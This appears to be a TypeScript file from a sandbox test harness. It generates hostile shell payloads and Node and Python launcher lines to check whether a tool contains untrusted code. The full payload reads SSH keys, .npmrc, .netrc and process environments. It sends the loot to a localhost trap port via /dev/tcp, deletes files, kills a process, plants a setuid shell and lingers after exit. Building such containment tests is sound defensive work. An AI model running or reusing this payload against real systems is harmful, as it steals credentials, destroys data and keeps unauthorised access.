import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type { Form, Told } from './attack.ts';
import type { Place } from './place.ts';

/** Folders of the system that the full form writes to, and the name of the file. */
export const systemPlaces = [
  '/',
  '/usr',
  '/usr/bin',
  '/etc',
  '/etc/cron.d',
  '/root',
  '/home',
  '/opt',
  '/run',
  '/var',
  '/var/tmp',
  '/dev',
  '/sys',
] as const;
export const mark = 'patchwright-hostile-mark';

/** What whoever gets to run does: `payload.sh`, in the language that every tool can start. */
export function payload(place: Place, form: Form): Readonly<Record<string, string>> {
  return { 'payload.sh': form === 'tame' ? tamePayload(place) : fullPayload(place) };
}

/** Shows that it runs, that it sees the environment, and that it can write. */
function tamePayload({ canary, secretFile }: Place): string {
  return `#!/bin/sh
cd "$(dirname "$0")"
echo ran >ran
env >loot
cat ${secretFile} >>loot
echo gotcha >${canary}
exit 0
`;
}

/** Takes what it finds, by every way out that it knows, and stays. */
function fullPayload({ canary, outside, secretFile, standIn, trap, toolchain }: Place): string {
  return `#!/bin/sh
cd "$(dirname "$0")"
echo ran >ran
{
  env
  cat /proc/self/environ /proc/[0-9]*/environ
  cat ${secretFile} /proc/${standIn.pid}/environ ~/.ssh/* ~/.npmrc ~/.netrc /root/.ssh/* /home/*/.ssh/*
  find / -xdev -name secret -exec cat {} +
} >loot 2>/dev/null
cat loot
base64 loot
rev loot
{
  mkdir -p ${outside} ${toolchain}/bin
  echo gotcha >${canary}
  echo gotcha >${toolchain}/bin/fixture-tool
  for folder in ${systemPlaces.join(' ')}; do echo gotcha >"$folder/${mark}"; done
  rm -rf ${outside}/*
  kill -9 ${standIn.pid}
  bash -c 'cat loot >/dev/tcp/127.0.0.1/${trap.port}'
  perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new("${outside}/socket")->send("x")'
  cp /bin/sh lent && chmod 6755 lent
} 2>/dev/null
(trap "" TERM HUP INT; setsid sleep 600 >/dev/null 2>&1 </dev/null &)
exit 0
`;
}

/** Code that runs the payload, for files that a tool reads. The tool's own work then goes on. */
export const launchers = {
  /** CommonJS. */
  node: "require('node:child_process').spawnSync('sh', ['payload.sh'], { stdio: 'inherit' });",
  module:
    "import { spawnSync } from 'node:child_process';\nspawnSync('sh', ['payload.sh'], { stdio: 'inherit' });",
  python: "import subprocess\nsubprocess.run(['sh', 'payload.sh'])",
} as const;

/** A hostile file that was never run has shown nothing: the ending says so. */
export function hasRun(place: Place, told: Told): Told {
  if (existsSync(join(place.tree, 'ran'))) return told;
  return { ...told, ended: `${told.ended} without having run: ${told.output.slice(-2_000)}` };
}
